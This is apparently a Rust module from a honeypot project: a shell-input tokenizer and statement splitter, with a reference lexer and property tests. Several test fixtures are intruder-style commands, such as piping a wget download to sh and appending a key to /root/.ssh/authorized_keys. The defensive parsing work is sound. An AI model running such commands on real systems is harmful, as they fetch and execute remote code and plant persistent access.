//! Shell input tokenizer and statement splitter.
//!
//! Handles the subset of POSIX shell syntax that honeypot intruders actually
//! use (and that Cowrie parses): single/double quotes, backslash escapes,
//! word splitting, statement separators (`;`, `&&`, `||`, `&`, newline),
//! pipelines (`|`), and redirections (`>`, `>>`, `<`, `2>`, `2>&1`).
//! Variable and command substitution are *not* expanded — intruder scripts
//! are recorded and emulated, not faithfully interpreted — matching Cowrie's
//! medium-interaction behaviour.
//!
//! Two parsers share one grammar:
//!
//! * [`LineBuf`] — the hot path. A reusable arena: word bytes land in one
//!   scratch `String`, argv/redirection/statement structure in index vectors,
//!   so re-parsing line after line performs **zero heap allocations** once
//!   the buffers have grown to the session's high-water mark. Consumers walk
//!   the borrowed views ([`Words`], [`CmdView`], [`StmtView`]).
//! * [`reference`] — the original allocating lexer, kept verbatim as the
//!   differential oracle (`tests/fuzz_lexer_equiv.rs` asserts the two agree
//!   token-for-token on arbitrary byte soup, hostile quoting included).
//!
//! The owned [`Statement`]/[`SimpleCommand`] types remain the serde-facing
//! boundary; [`split_statements`] produces them from a `LineBuf` parse.

use serde::{Deserialize, Serialize};

/// One token from the lexer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Token {
    /// A word (after quote/escape processing).
    Word(String),
    /// `;`, `&`, or newline.
    Semi,
    /// `&&`
    AndIf,
    /// `||`
    OrIf,
    /// `|`
    Pipe,
    /// `>` (fd 1)
    RedirOut,
    /// `>>` (fd 1, append)
    RedirAppend,
    /// `<`
    RedirIn,
    /// `2>`
    RedirErr,
    /// `2>&1`
    RedirErrToOut,
}

/// A redirection attached to a simple command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Redirection {
    /// `> target`
    Out(String),
    /// `>> target`
    Append(String),
    /// `< source`
    In(String),
    /// `2> target` (the honeypot discards stderr, but records the file write
    /// unless the target is /dev/null)
    Err(String),
    /// `2>&1`
    ErrToOut,
}

/// A simple command: argv plus redirections.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct SimpleCommand {
    /// Command name and arguments, in order. May be empty for bare
    /// redirections like `> file`.
    pub argv: Vec<String>,
    /// Redirections in source order.
    pub redirs: Vec<Redirection>,
}

impl SimpleCommand {
    /// Command name, if any.
    pub fn name(&self) -> Option<&str> {
        self.argv.first().map(|s| s.as_str())
    }
}

/// A statement: one pipeline (possibly a single command) plus the separator
/// that ended it. `cmd1 | cmd2 && cmd3` produces two statements.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Statement {
    /// The commands in the pipeline, left to right.
    pub pipeline: Vec<SimpleCommand>,
    /// How this statement was chained to the *next* one.
    pub chain: Chain,
}

/// Chaining operator between statements.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Chain {
    /// `;`, `&`, newline, or end of input.
    Always,
    /// `&&` — next runs only on success (the emulator treats all emulated
    /// commands as succeeding, so this matters only for bookkeeping).
    And,
    /// `||`
    Or,
}

// ---------------------------------------------------------------------------
// Borrowed, allocation-free parse: LineBuf and its views

/// Token in the [`LineBuf`] stream; `Word` indexes into the word-span table.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tok {
    Word(u32),
    Semi,
    AndIf,
    OrIf,
    Pipe,
    RedirOut,
    RedirAppend,
    RedirIn,
    RedirErr,
    RedirErrToOut,
}

/// Redirection kind for the borrowed form.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RedirKind {
    Out,
    Append,
    In,
    Err,
    ErrToOut,
}

#[derive(Debug, Clone, Copy)]
struct CmdSpan {
    /// Range into `LineBuf::argv` (word indices of this command's argv).
    argv: (u32, u32),
    /// Range into `LineBuf::redirs`.
    redirs: (u32, u32),
}

#[derive(Debug, Clone, Copy)]
struct StmtSpan {
    /// Range into `LineBuf::cmds`.
    cmds: (u32, u32),
    chain: Chain,
}

/// Reusable parse buffer: one `parse` call lexes and statement-splits a line
/// with all output stored in the buffer's own arenas. Steady-state reuse
/// (`parse` clears but never shrinks) performs no heap allocation.
#[derive(Debug, Default)]
pub struct LineBuf {
    /// Word-byte arena: every processed word's bytes, concatenated.
    text: String,
    /// Word spans into `text`.
    words: Vec<(u32, u32)>,
    /// Token stream of the last parse.
    toks: Vec<Tok>,
    /// Argv word indices, contiguous per command.
    argv: Vec<u32>,
    /// Redirections, contiguous per command. Target is a word index
    /// (unused for `ErrToOut`).
    redirs: Vec<(RedirKind, u32)>,
    /// Commands, contiguous per statement.
    cmds: Vec<CmdSpan>,
    /// Statements of the line.
    stmts: Vec<StmtSpan>,
}

impl LineBuf {
    /// A fresh, empty buffer.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of statements from the last [`LineBuf::parse`].
    pub fn len(&self) -> usize {
        self.stmts.len()
    }

    /// Did the last parse produce no statements?
    pub fn is_empty(&self) -> bool {
        self.stmts.is_empty()
    }

    fn word(&self, idx: u32) -> &str {
        let (s, e) = self.words[idx as usize];
        &self.text[s as usize..e as usize]
    }

    /// Parse one input line, replacing the previous contents. Grammar and
    /// byte-level word processing are identical to [`reference::Lexer`]
    /// (enforced by the differential fuzz oracle).
    pub fn parse(&mut self, line: &str) {
        self.text.clear();
        self.words.clear();
        self.toks.clear();
        self.argv.clear();
        self.redirs.clear();
        self.cmds.clear();
        self.stmts.clear();
        self.lex(line.as_bytes());
        self.split();
    }

    /// Tokenize — a transliteration of `reference::Lexer::tokenize` that
    /// appends word bytes to the arena instead of allocating a `String`
    /// per word.
    fn lex(&mut self, src: &[u8]) {
        let mut pos = 0usize;
        loop {
            while matches!(src.get(pos), Some(b' ') | Some(b'\t')) {
                pos += 1;
            }
            let Some(&b) = src.get(pos) else { break };
            match b {
                b'\n' | b';' => {
                    pos += 1;
                    self.toks.push(Tok::Semi);
                }
                b'&' => {
                    pos += 1;
                    if src.get(pos) == Some(&b'&') {
                        pos += 1;
                        self.toks.push(Tok::AndIf);
                    } else {
                        self.toks.push(Tok::Semi); // background `&` ends a statement
                    }
                }
                b'|' => {
                    pos += 1;
                    if src.get(pos) == Some(&b'|') {
                        pos += 1;
                        self.toks.push(Tok::OrIf);
                    } else {
                        self.toks.push(Tok::Pipe);
                    }
                }
                b'>' => {
                    pos += 1;
                    if src.get(pos) == Some(&b'>') {
                        pos += 1;
                        self.toks.push(Tok::RedirAppend);
                    } else {
                        self.toks.push(Tok::RedirOut);
                    }
                }
                b'<' => {
                    pos += 1;
                    self.toks.push(Tok::RedirIn);
                }
                b'2' if src.get(pos + 1) == Some(&b'>') => {
                    // `2>` / `2>&1` only when `2` starts a word.
                    pos += 2;
                    if src.get(pos) == Some(&b'&') && src.get(pos + 1) == Some(&b'1') {
                        pos += 2;
                        self.toks.push(Tok::RedirErrToOut);
                    } else {
                        self.toks.push(Tok::RedirErr);
                    }
                }
                _ => {
                    let w = self.read_word(src, &mut pos);
                    self.toks.push(Tok::Word(w));
                }
            }
        }
    }

    /// Read one word into the arena, processing quotes and escapes. Bytes are
    /// pushed as `u8 as char` — Latin-1 decoding, exactly like the reference
    /// lexer — so non-ASCII input reproduces the reference's `String` bytes.
    fn read_word(&mut self, src: &[u8], pos: &mut usize) -> u32 {
        let start = self.text.len() as u32;
        while let Some(&b) = src.get(*pos) {
            match b {
                b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'>' | b'<' => break,
                b'\'' => {
                    *pos += 1;
                    while let Some(&c) = src.get(*pos) {
                        *pos += 1;
                        if c == b'\'' {
                            break;
                        }
                        self.text.push(c as char);
                    }
                }
                b'"' => {
                    *pos += 1;
                    while let Some(&c) = src.get(*pos) {
                        *pos += 1;
                        match c {
                            b'"' => break,
                            b'\\' => {
                                // Inside double quotes, backslash escapes \ " $ `
                                match src.get(*pos) {
                                    Some(&n @ (b'\\' | b'"' | b'$' | b'`')) => {
                                        self.text.push(n as char);
                                        *pos += 1;
                                    }
                                    _ => self.text.push('\\'),
                                }
                            }
                            _ => self.text.push(c as char),
                        }
                    }
                }
                b'\\' => {
                    *pos += 1;
                    if let Some(&c) = src.get(*pos) {
                        *pos += 1;
                        self.text.push(c as char);
                    }
                }
                _ => {
                    self.text.push(b as char);
                    *pos += 1;
                }
            }
        }
        let idx = self.words.len() as u32;
        self.words.push((start, self.text.len() as u32));
        idx
    }

    /// Statement split over the token stream — same flush discipline as
    /// `reference::split_statements`.
    fn split(&mut self) {
        let mut cmd_argv_start = 0u32;
        let mut cmd_redir_start = 0u32;
        let mut stmt_cmd_start = 0u32;
        let mut i = 0usize;

        macro_rules! flush_cmd {
            () => {{
                let argv_end = self.argv.len() as u32;
                let redir_end = self.redirs.len() as u32;
                if argv_end > cmd_argv_start || redir_end > cmd_redir_start {
                    self.cmds.push(CmdSpan {
                        argv: (cmd_argv_start, argv_end),
                        redirs: (cmd_redir_start, redir_end),
                    });
                    cmd_argv_start = argv_end;
                    cmd_redir_start = redir_end;
                }
            }};
        }
        macro_rules! flush_stmt {
            ($chain:expr) => {{
                let cmd_end = self.cmds.len() as u32;
                if cmd_end > stmt_cmd_start {
                    self.stmts.push(StmtSpan {
                        cmds: (stmt_cmd_start, cmd_end),
                        chain: $chain,
                    });
                    stmt_cmd_start = cmd_end;
                }
            }};
        }

        while i < self.toks.len() {
            let tok = self.toks[i];
            i += 1;
            match tok {
                Tok::Word(w) => self.argv.push(w),
                Tok::Pipe => flush_cmd!(),
                Tok::Semi => {
                    flush_cmd!();
                    flush_stmt!(Chain::Always);
                }
                Tok::AndIf => {
                    flush_cmd!();
                    flush_stmt!(Chain::And);
                }
                Tok::OrIf => {
                    flush_cmd!();
                    flush_stmt!(Chain::Or);
                }
                Tok::RedirOut | Tok::RedirAppend | Tok::RedirIn | Tok::RedirErr => {
                    let kind = match tok {
                        Tok::RedirOut => RedirKind::Out,
                        Tok::RedirAppend => RedirKind::Append,
                        Tok::RedirIn => RedirKind::In,
                        _ => RedirKind::Err,
                    };
                    // Take the word following the operator, if present.
                    if let Some(Tok::Word(w)) = self.toks.get(i).copied() {
                        i += 1;
                        self.redirs.push((kind, w));
                    }
                }
                Tok::RedirErrToOut => self.redirs.push((RedirKind::ErrToOut, 0)),
            }
        }
        flush_cmd!();
        flush_stmt!(Chain::Always);
        let _ = (cmd_argv_start, cmd_redir_start, stmt_cmd_start);
    }

    /// Iterate the parsed statements.
    pub fn statements(&self) -> impl ExactSizeIterator<Item = StmtView<'_>> + '_ {
        (0..self.stmts.len()).map(move |idx| StmtView { buf: self, idx })
    }

    /// Statement by index.
    pub fn statement(&self, idx: usize) -> StmtView<'_> {
        StmtView { buf: self, idx }
    }

    /// Materialize the owned form — the serde/compat boundary. This is the
    /// only allocating consumer of a parse.
    pub fn to_statements(&self) -> Vec<Statement> {
        self.statements()
            .map(|s| Statement {
                pipeline: s
                    .commands()
                    .map(|c| SimpleCommand {
                        argv: c.argv().iter().map(str::to_string).collect(),
                        redirs: c
                            .redirs()
                            .map(|r| match r {
                                RedirView::Out(t) => Redirection::Out(t.to_string()),
                                RedirView::Append(t) => Redirection::Append(t.to_string()),
                                RedirView::In(t) => Redirection::In(t.to_string()),
                                RedirView::Err(t) => Redirection::Err(t.to_string()),
                                RedirView::ErrToOut => Redirection::ErrToOut,
                            })
                            .collect(),
                    })
                    .collect(),
                chain: s.chain(),
            })
            .collect()
    }
}

/// Lex `line` into `buf` and call `f` with the head word (the command
/// name) of every simple command — across pipelines and `;`/`&&`/`||`
/// chains, in source order. Commands with no name (bare redirections,
/// empty segments) are skipped. Reuses `buf`'s arenas, so steady-state
/// callers allocate nothing; the clustering feature extractor drives this
/// over the interned command pool to build its n-gram vocabulary.
pub fn for_each_command_head(buf: &mut LineBuf, line: &str, mut f: impl FnMut(&str)) {
    buf.parse(line);
    for stmt in buf.statements() {
        for cmd in stmt.commands() {
            if let Some(name) = cmd.name() {
                f(name);
            }
        }
    }
}

/// Borrowed view of one statement.
#[derive(Clone, Copy)]
pub struct StmtView<'a> {
    buf: &'a LineBuf,
    idx: usize,
}

impl<'a> StmtView<'a> {
    /// Chain operator to the next statement.
    pub fn chain(&self) -> Chain {
        self.buf.stmts[self.idx].chain
    }

    /// Number of commands in the pipeline.
    pub fn pipeline_len(&self) -> usize {
        let (s, e) = self.buf.stmts[self.idx].cmds;
        (e - s) as usize
    }

    /// Iterate the pipeline's commands left to right.
    pub fn commands(&self) -> impl ExactSizeIterator<Item = CmdView<'a>> + 'a {
        let buf = self.buf;
        let (s, e) = self.buf.stmts[self.idx].cmds;
        (s..e).map(move |idx| CmdView {
            buf,
            idx: idx as usize,
        })
    }
}

/// Borrowed view of one simple command.
#[derive(Clone, Copy)]
pub struct CmdView<'a> {
    buf: &'a LineBuf,
    idx: usize,
}

impl<'a> CmdView<'a> {
    /// The command's argv as a borrowed word list.
    pub fn argv(&self) -> Words<'a> {
        let (s, e) = self.buf.cmds[self.idx].argv;
        Words {
            buf: self.buf,
            start: s,
            end: e,
        }
    }

    /// Command name, if any.
    pub fn name(&self) -> Option<&'a str> {
        self.argv().first()
    }

    /// Iterate the redirections in source order.
    pub fn redirs(&self) -> impl ExactSizeIterator<Item = RedirView<'a>> + 'a {
        let buf = self.buf;
        let (s, e) = self.buf.cmds[self.idx].redirs;
        (s..e).map(move |i| {
            let (kind, target) = buf.redirs[i as usize];
            match kind {
                RedirKind::Out => RedirView::Out(buf.word(target)),
                RedirKind::Append => RedirView::Append(buf.word(target)),
                RedirKind::In => RedirView::In(buf.word(target)),
                RedirKind::Err => RedirView::Err(buf.word(target)),
                RedirKind::ErrToOut => RedirView::ErrToOut,
            }
        })
    }
}

/// Borrowed redirection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirView<'a> {
    /// `> target`
    Out(&'a str),
    /// `>> target`
    Append(&'a str),
    /// `< source`
    In(&'a str),
    /// `2> target`
    Err(&'a str),
    /// `2>&1`
    ErrToOut,
}

/// Borrowed argv: a copyable window over a command's words.
#[derive(Clone, Copy)]
pub struct Words<'a> {
    buf: &'a LineBuf,
    start: u32,
    end: u32,
}

impl<'a> Words<'a> {
    /// Number of words.
    pub fn len(&self) -> usize {
        (self.end - self.start) as usize
    }

    /// Is the argv empty?
    pub fn is_empty(&self) -> bool {
        self.start == self.end
    }

    /// Word by position.
    pub fn get(&self, i: usize) -> Option<&'a str> {
        let idx = self.start as usize + i;
        if idx < self.end as usize {
            Some(self.buf.word(self.buf.argv[idx]))
        } else {
            None
        }
    }

    /// First word (the command name).
    pub fn first(&self) -> Option<&'a str> {
        self.get(0)
    }

    /// Iterate the words.
    pub fn iter(&self) -> impl DoubleEndedIterator<Item = &'a str> + ExactSizeIterator + 'a {
        let buf = self.buf;
        (self.start..self.end).map(move |i| buf.word(buf.argv[i as usize]))
    }

    /// The argv with the first `n` words dropped (saturating).
    pub fn tail(&self, n: usize) -> Words<'a> {
        Words {
            buf: self.buf,
            start: (self.start + n as u32).min(self.end),
            end: self.end,
        }
    }

    /// Does any word equal `w`?
    pub fn contains(&self, w: &str) -> bool {
        self.iter().any(|a| a == w)
    }
}

// ---------------------------------------------------------------------------
// Owned boundary

/// Parse an input line into owned statements (pipelines with chaining info).
///
/// Convenience/serde boundary over [`LineBuf`]; hot paths hold a reusable
/// `LineBuf` instead.
pub fn split_statements(input: &str) -> Vec<Statement> {
    let mut buf = LineBuf::new();
    buf.parse(input);
    buf.to_statements()
}

// ---------------------------------------------------------------------------
// Reference implementation (pre-refactor), kept as the differential oracle

/// The original allocating lexer/splitter, preserved byte-for-byte as the
/// oracle for the arena parser. Not used on any hot path; public so the
/// differential fuzz suite (`tests/fuzz_lexer_equiv.rs`) can drive it.
#[doc(hidden)]
pub mod reference {
    use super::{Chain, Redirection, SimpleCommand, Statement, Token};

    /// The tokenizer.
    pub struct Lexer<'a> {
        src: &'a [u8],
        pos: usize,
    }

    impl<'a> Lexer<'a> {
        /// Lex a full input string into tokens.
        pub fn new(src: &'a str) -> Self {
            Lexer {
                src: src.as_bytes(),
                pos: 0,
            }
        }

        fn peek(&self) -> Option<u8> {
            self.src.get(self.pos).copied()
        }

        fn bump(&mut self) -> Option<u8> {
            let b = self.peek()?;
            self.pos += 1;
            Some(b)
        }

        /// Produce all tokens. The lexer is total: any byte sequence yields a
        /// token stream (unterminated quotes consume to end of input, like most
        /// shells in non-interactive mode).
        pub fn tokenize(mut self) -> Vec<Token> {
            let mut out = Vec::new();
            loop {
                // Skip horizontal whitespace.
                while matches!(self.peek(), Some(b' ') | Some(b'\t')) {
                    self.pos += 1;
                }
                let Some(b) = self.peek() else { break };
                match b {
                    b'\n' | b';' => {
                        self.pos += 1;
                        out.push(Token::Semi);
                    }
                    b'&' => {
                        self.pos += 1;
                        if self.peek() == Some(b'&') {
                            self.pos += 1;
                            out.push(Token::AndIf);
                        } else {
                            out.push(Token::Semi); // background `&` ends a statement
                        }
                    }
                    b'|' => {
                        self.pos += 1;
                        if self.peek() == Some(b'|') {
                            self.pos += 1;
                            out.push(Token::OrIf);
                        } else {
                            out.push(Token::Pipe);
                        }
                    }
                    b'>' => {
                        self.pos += 1;
                        if self.peek() == Some(b'>') {
                            self.pos += 1;
                            out.push(Token::RedirAppend);
                        } else {
                            out.push(Token::RedirOut);
                        }
                    }
                    b'<' => {
                        self.pos += 1;
                        out.push(Token::RedirIn);
                    }
                    b'2' if self.src.get(self.pos + 1) == Some(&b'>') => {
                        // `2>` / `2>&1` only when `2` starts a word.
                        self.pos += 2;
                        if self.src.get(self.pos) == Some(&b'&')
                            && self.src.get(self.pos + 1) == Some(&b'1')
                        {
                            self.pos += 2;
                            out.push(Token::RedirErrToOut);
                        } else {
                            out.push(Token::RedirErr);
                        }
                    }
                    _ => {
                        let w = self.read_word();
                        out.push(Token::Word(w));
                    }
                }
            }
            out
        }

        /// Read one word, processing quotes and escapes.
        fn read_word(&mut self) -> String {
            let mut w = String::new();
            while let Some(b) = self.peek() {
                match b {
                    b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'>' | b'<' => break,
                    b'\'' => {
                        self.pos += 1;
                        while let Some(c) = self.bump() {
                            if c == b'\'' {
                                break;
                            }
                            w.push(c as char);
                        }
                    }
                    b'"' => {
                        self.pos += 1;
                        while let Some(c) = self.bump() {
                            match c {
                                b'"' => break,
                                b'\\' => {
                                    // Inside double quotes, backslash escapes \ " $ `
                                    match self.peek() {
                                        Some(n @ (b'\\' | b'"' | b'$' | b'`')) => {
                                            w.push(n as char);
                                            self.pos += 1;
                                        }
                                        _ => w.push('\\'),
                                    }
                                }
                                _ => w.push(c as char),
                            }
                        }
                    }
                    b'\\' => {
                        self.pos += 1;
                        if let Some(c) = self.bump() {
                            w.push(c as char);
                        }
                    }
                    _ => {
                        w.push(b as char);
                        self.pos += 1;
                    }
                }
            }
            w
        }
    }

    /// Parse an input line into statements (pipelines with chaining info).
    pub fn split_statements(input: &str) -> Vec<Statement> {
        let tokens = Lexer::new(input).tokenize();
        let mut stmts = Vec::new();
        let mut pipeline: Vec<SimpleCommand> = Vec::new();
        let mut cur = SimpleCommand::default();
        let mut it = tokens.into_iter().peekable();

        // Take the word following a redirection operator, if present.
        fn redir_target(it: &mut std::iter::Peekable<std::vec::IntoIter<Token>>) -> Option<String> {
            match it.peek() {
                Some(Token::Word(_)) => {
                    if let Some(Token::Word(w)) = it.next() {
                        Some(w)
                    } else {
                        unreachable!()
                    }
                }
                _ => None,
            }
        }

        // Flush helpers keep structure flat.
        fn flush_cmd(pipeline: &mut Vec<SimpleCommand>, cur: &mut SimpleCommand) {
            if !cur.argv.is_empty() || !cur.redirs.is_empty() {
                pipeline.push(std::mem::take(cur));
            }
        }
        fn flush_stmt(stmts: &mut Vec<Statement>, pipeline: &mut Vec<SimpleCommand>, chain: Chain) {
            if !pipeline.is_empty() {
                stmts.push(Statement {
                    pipeline: std::mem::take(pipeline),
                    chain,
                });
            }
        }

        while let Some(tok) = it.next() {
            match tok {
                Token::Word(w) => cur.argv.push(w),
                Token::Pipe => flush_cmd(&mut pipeline, &mut cur),
                Token::Semi => {
                    flush_cmd(&mut pipeline, &mut cur);
                    flush_stmt(&mut stmts, &mut pipeline, Chain::Always);
                }
                Token::AndIf => {
                    flush_cmd(&mut pipeline, &mut cur);
                    flush_stmt(&mut stmts, &mut pipeline, Chain::And);
                }
                Token::OrIf => {
                    flush_cmd(&mut pipeline, &mut cur);
                    flush_stmt(&mut stmts, &mut pipeline, Chain::Or);
                }
                Token::RedirOut => {
                    if let Some(t) = redir_target(&mut it) {
                        cur.redirs.push(Redirection::Out(t));
                    }
                }
                Token::RedirAppend => {
                    if let Some(t) = redir_target(&mut it) {
                        cur.redirs.push(Redirection::Append(t));
                    }
                }
                Token::RedirIn => {
                    if let Some(t) = redir_target(&mut it) {
                        cur.redirs.push(Redirection::In(t));
                    }
                }
                Token::RedirErr => {
                    if let Some(t) = redir_target(&mut it) {
                        cur.redirs.push(Redirection::Err(t));
                    }
                }
                Token::RedirErrToOut => cur.redirs.push(Redirection::ErrToOut),
            }
        }
        flush_cmd(&mut pipeline, &mut cur);
        flush_stmt(&mut stmts, &mut pipeline, Chain::Always);
        stmts
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn simple_words() {
        let s = split_statements("uname -a");
        assert_eq!(s.len(), 1);
        assert_eq!(s[0].pipeline[0].argv, vec!["uname", "-a"]);
    }

    #[test]
    fn command_heads_walk_chains_and_pipes() {
        let mut buf = LineBuf::new();
        let mut heads = Vec::new();
        for_each_command_head(&mut buf, "cd /tmp && wget http://x/a | sh; rm -f a", |h| {
            heads.push(h.to_string())
        });
        assert_eq!(heads, vec!["cd", "wget", "sh", "rm"]);
        heads.clear();
        for_each_command_head(&mut buf, "   ", |h| heads.push(h.to_string()));
        assert!(heads.is_empty());
    }

    #[test]
    fn semicolons_split_statements() {
        let s = split_statements("free -m; uname; w");
        assert_eq!(s.len(), 3);
        assert_eq!(s[1].pipeline[0].argv, vec!["uname"]);
    }

    #[test]
    fn and_or_chains() {
        let s = split_statements("wget http://x/a && chmod 777 a || echo fail");
        assert_eq!(s.len(), 3);
        assert_eq!(s[0].chain, Chain::And);
        assert_eq!(s[1].chain, Chain::Or);
        assert_eq!(s[2].chain, Chain::Always);
    }

    #[test]
    fn pipeline_grouping() {
        let s = split_statements("cat /proc/cpuinfo | grep model | head -1");
        assert_eq!(s.len(), 1);
        assert_eq!(s[0].pipeline.len(), 3);
        assert_eq!(s[0].pipeline[2].argv, vec!["head", "-1"]);
    }

    #[test]
    fn quotes_and_escapes() {
        let s = split_statements(r#"echo 'a b' "c d" e\ f"#);
        assert_eq!(s[0].pipeline[0].argv, vec!["echo", "a b", "c d", "e f"]);
    }

    #[test]
    fn double_quote_escapes() {
        let s = split_statements(r#"echo "a\"b" "x\\y" "p\qr""#);
        assert_eq!(s[0].pipeline[0].argv, vec!["echo", "a\"b", "x\\y", "p\\qr"]);
    }

    #[test]
    fn redirections() {
        let s = split_statements("echo key >> /root/.ssh/authorized_keys");
        let cmd = &s[0].pipeline[0];
        assert_eq!(cmd.argv, vec!["echo", "key"]);
        assert_eq!(
            cmd.redirs,
            vec![Redirection::Append("/root/.ssh/authorized_keys".into())]
        );
    }

    #[test]
    fn stderr_redirections() {
        let s = split_statements("wget http://x/a 2>/dev/null 2>&1");
        let cmd = &s[0].pipeline[0];
        assert_eq!(
            cmd.redirs,
            vec![Redirection::Err("/dev/null".into()), Redirection::ErrToOut,]
        );
    }

    #[test]
    fn word_starting_with_two_is_not_stderr_redir() {
        let s = split_statements("sleep 2");
        assert_eq!(s[0].pipeline[0].argv, vec!["sleep", "2"]);
    }

    #[test]
    fn background_ampersand_acts_as_separator() {
        let s = split_statements("./mal &");
        assert_eq!(s.len(), 1);
        assert_eq!(s[0].pipeline[0].argv, vec!["./mal"]);
    }

    #[test]
    fn empty_and_whitespace_inputs() {
        assert!(split_statements("").is_empty());
        assert!(split_statements("   \n ; ;; ").is_empty());
    }

    #[test]
    fn unterminated_quote_is_total() {
        let s = split_statements("echo 'oops");
        assert_eq!(s[0].pipeline[0].argv, vec!["echo", "oops"]);
    }

    #[test]
    fn interleaved_redirection_targets_do_not_break_argv() {
        // Redirection targets land in the word arena between argv words; the
        // argv index table must skip them.
        let s = split_statements("echo a > t b >> u c");
        let cmd = &s[0].pipeline[0];
        assert_eq!(cmd.argv, vec!["echo", "a", "b", "c"]);
        assert_eq!(
            cmd.redirs,
            vec![
                Redirection::Out("t".into()),
                Redirection::Append("u".into())
            ]
        );
    }

    #[test]
    fn linebuf_reuse_matches_fresh_parse() {
        let mut buf = LineBuf::new();
        for line in [
            "cd /tmp && wget http://1.2.3.4/x.sh | sh",
            "echo 'a b' > f; cat f 2>&1",
            "",
            "uname -a",
        ] {
            buf.parse(line);
            assert_eq!(buf.to_statements(), reference::split_statements(line));
        }
    }

    #[test]
    fn views_expose_borrowed_words() {
        let mut buf = LineBuf::new();
        buf.parse("tail -n 5 /var/log/wtmp 2>/dev/null");
        let stmt = buf.statement(0);
        assert_eq!(stmt.pipeline_len(), 1);
        let cmd = stmt.commands().next().unwrap();
        assert_eq!(cmd.name(), Some("tail"));
        assert_eq!(cmd.argv().len(), 4);
        assert_eq!(cmd.argv().tail(1).first(), Some("-n"));
        assert!(cmd.argv().contains("/var/log/wtmp"));
        assert_eq!(cmd.redirs().next(), Some(RedirView::Err("/dev/null")));
    }

    proptest! {
        /// Lexer is total and never panics.
        #[test]
        fn prop_lexer_total(input in ".{0,200}") {
            let _ = split_statements(&input);
        }

        /// Quoting a word always yields exactly that word back.
        #[test]
        fn prop_single_quote_roundtrip(w in "[ -~&&[^']]{1,40}") {
            let s = split_statements(&format!("echo '{w}'"));
            prop_assert_eq!(&s[0].pipeline[0].argv[1], &w);
        }

        /// Arena parser agrees with the reference splitter on arbitrary input.
        #[test]
        fn prop_linebuf_matches_reference(input in ".{0,200}") {
            let mut buf = LineBuf::new();
            buf.parse(&input);
            prop_assert_eq!(buf.to_statements(), reference::split_statements(&input));
        }
    }
}
